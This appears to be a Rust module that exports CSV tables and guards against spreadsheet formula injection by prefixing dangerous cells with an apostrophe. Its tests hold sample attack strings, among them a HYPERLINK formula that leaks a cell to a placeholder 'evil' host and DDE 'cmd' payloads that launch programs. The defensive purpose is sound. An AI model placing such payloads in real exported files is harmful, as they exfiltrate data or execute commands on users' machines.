//! Tables for spreadsheets, in which text stays text.
//!
//! A spreadsheet takes a cell that begins with `=`, `+`, `-` or `@` for a formula and runs it, wherever the text came from. So such a text gets
//! an apostrophe before it, which tells spreadsheets that this is text. [`unmarked`] removes the apostrophe: our own imports read what was
//! exported, byte for byte. Numbers are written as numbers.
//!
//! Everything that writes comma-separated text goes through this module. A test finds code that does not.

use std::borrow::Cow;
use std::io::Write;

/// What marks a cell as text.
const MARK: char = '\'';

/// One cell.
#[derive(Clone, PartialEq, Eq, Debug)]
pub enum Cell<'a> {
    /// Free text, from whoever.
    Text(Cow<'a, str>),
    /// A number that we write ourselves, which may begin with a minus.
    Number(String),
}

impl<'a> From<&'a str> for Cell<'a> {
    fn from(text: &'a str) -> Cell<'a> {
        Cell::Text(Cow::Borrowed(text))
    }
}

impl From<String> for Cell<'_> {
    fn from(text: String) -> Cell<'static> {
        Cell::Text(Cow::Owned(text))
    }
}

/// Whether a spreadsheet may take this for something else than text: by its first letter, or by the first one behind what it may overlook.
fn acts(text: &str) -> bool {
    if text.starts_with(['\t', '\r', '\n']) {
        return true;
    }
    let overlooked = |letter: char| {
        letter.is_whitespace()
            || letter.is_control()
            || matches!(letter, '\u{feff}' | '\u{200b}'..='\u{200f}' | '\u{2060}' | '"')
    };
    // Also as full-width and small forms, which some spreadsheets fold.
    text.trim_start_matches(overlooked).starts_with([
        '=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}', '\u{fe66}', '\u{fe62}', '\u{fe63}',
        '\u{fe6b}', '\u{2212}',
    ])
}

/// What ends a cell where a spreadsheet does not split at commas: quotes mean nothing to it then, since they are not at a cell's beginning.
const ENDS: [char; 4] = [';', '\t', '\n', '\r'];

/// Where cells of a text begin for a spreadsheet that does not split at commas, last first.
fn begins(text: &str) -> impl Iterator<Item = usize> {
    text.rmatch_indices(ENDS).map(|(place, end)| place + end.len()).chain([0])
}

/// Text as it is written into a cell: marked at its beginning, and where a cell would begin if it were split at something else than commas.
pub fn marked(text: &str) -> Cow<'_, str> {
    let mut written = Cow::Borrowed(text);
    // From the end, so that the other beginnings stay where they are. A text that looks like a marked one is marked once more: there is one way back.
    for begin in begins(text).filter(|begin| acts(text[*begin..].trim_start_matches(MARK))) {
        written.to_mut().insert(begin, MARK);
    }
    written
}

/// The text of a cell that [`marked`] has written, or any other cell as it is.
pub fn unmarked(cell: &str) -> Cow<'_, str> {
    let mut text = Cow::Borrowed(cell);
    for begin in begins(cell) {
        if text[begin..].strip_prefix(MARK).is_some_and(|rest| acts(rest.trim_start_matches(MARK))) {
            text.to_mut().remove(begin);
        }
    }
    text
}

/// Writes rows of cells.
pub struct Table<W: Write>(csv::Writer<W>);

impl<W: Write> Table<W> {
    /// With a header.
    pub fn begin(out: W, header: &[&str]) -> csv::Result<Table<W>> {
        let mut table = Table::go_on(out);
        table.0.write_record(header)?;
        Ok(table)
    }

    /// Behind rows that were written before.
    pub fn go_on(out: W) -> Table<W> {
        Table(csv::WriterBuilder::new().flexible(true).from_writer(out))
    }

    /// One row.
    pub fn row<'a>(&mut self, cells: impl IntoIterator<Item = Cell<'a>>) -> csv::Result<()> {
        for cell in cells {
            match &cell {
                Cell::Text(text) => self.0.write_field(marked(text).as_ref())?,
                Cell::Number(number) => self.0.write_field(number)?,
            }
        }
        self.0.write_record(None::<&[u8]>)
    }

    /// Writes out what is held back.
    pub fn flush(&mut self) -> std::io::Result<()> {
        self.0.flush()
    }

    /// What it writes to.
    pub fn out(&self) -> &W {
        self.0.get_ref()
    }
}

impl Table<Vec<u8>> {
    /// All that was written.
    pub fn bytes(self) -> std::io::Result<Vec<u8>> {
        self.0.into_inner().map_err(|error| std::io::Error::other(error.to_string()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::import::file;

    /// sec-07-formulas-in-exported-tables
    #[test]
    fn formulas_are_written_as_text_and_read_back_as_they_were() {
        for text in [
            "=HYPERLINK(\"http://evil?x=\"&A1)",
            "@SUM(1+1)*cmd|'/C calc'!A0",
            "+1+1",
            "-2+3",
            " =1",
            "\u{a0}=1",
            "\u{feff}=1",
            "\u{ff1d}1+1",
            "\u{ff0b}1",
            "\u{ff0d}1",
            "\u{ff20}SUM(1)",
            "\u{2212}5",
            "\"=1",
            "'=1",
            "''=1",
            "' =1",
        ] {
            let written = marked(text);
            assert_eq!(written, format!("'{text}"), "{text:?}");
            assert_eq!(unmarked(&written), text, "{text:?}");
        }
        // Where a spreadsheet splits at semicolons, tabs or line ends, and quotes in the middle of a cell mean nothing.
        for (text, written) in [
            ("\t=1", "'\t'=1"),
            ("\r=1", "'\r'=1"),
            ("a;=1", "a;'=1"),
            ("a; =1;b", "a;' =1;b"),
            ("=1;=2", "'=1;'=2"),
            ("a;'=1", "a;''=1"),
            ("a\t@x", "a\t'@x"),
            ("a\n+1", "a\n'+1"),
            (";;-1", ";;'-1"),
            (";\"=1", ";'\"=1"),
        ] {
            assert_eq!(marked(text), written, "{text:?}");
            assert_eq!(unmarked(written), text, "{text:?}");
        }
        for text in [
            "",
            "e-1",
            "a=b",
            "a;b",
            "a;b=c",
            "a\tb",
            "ü;ä",
            "'",
            "''",
            "'tis",
            "O'Neill",
            "5",
            "4930123",
            "2026-01-01T00:00:00Z",
            " a",
        ] {
            assert_eq!(marked(text), text);
            assert_eq!(unmarked(text), text);
        }
    }

    proptest::proptest! {
        /// sec-07: whatever a text is, it comes back, and no part of what is written acts.
        #[test]
        fn any_text_comes_back(text in "[=+@'; \t\n\"a-]{0,12}") {
            let written = marked(&text).into_owned();
            proptest::prop_assert_eq!(unmarked(&written), text.as_str());
            for part in written.split(ENDS) {
                proptest::prop_assert!(!acts(part), "{:?} in {:?}", part, written);
            }
        }
    }

    /// sec-07: through a file, as our own imports read it.
    #[test]
    fn what_is_exported_is_imported_as_it_was() {
        let texts = ["=cmd|'/C calc'!A0", "@a,b", "+\"x\"", "-5", "'=1", "\t=tab", "plain", "O'Neill"];
        let mut table = Table::begin(Vec::new(), &["a"]).expect("header");
        table.row(texts.into_iter().map(Cell::from)).expect("row");
        table.row([Cell::Number("-5.00000".to_owned()), Cell::from("-5.00000")]).expect("row");
        let written = String::from_utf8(table.bytes().expect("written")).expect("text");
        let lines: Vec<&str> = written.lines().collect();
        assert_eq!(file::fields(lines[1]).expect("fields"), texts);
        assert_eq!(lines[2], "-5.00000,'-5.00000", "numbers stay numbers");
    }

    /// sec-07: no other place of the program writes comma-separated text.
    #[test]
    fn every_table_is_written_here() {
        fn look(folder: &std::path::Path, found: &mut Vec<String>) {
            for entry in std::fs::read_dir(folder).expect("a folder") {
                let path = entry.expect("an entry").path();
                if path.is_dir() {
                    look(&path, found);
                } else if path.extension().is_some_and(|extension| extension == "rs") {
                    let text = std::fs::read_to_string(&path).expect("text");
                    if text.contains(concat!("csv::", "Writer")) {
                        found.push(path.file_name().expect("a name").to_string_lossy().into_owned());
                    }
                }
            }
        }
        let mut found = Vec::new();
        look(std::path::Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/src")), &mut found);
        assert_eq!(found, ["table.rs"]);
    }
}
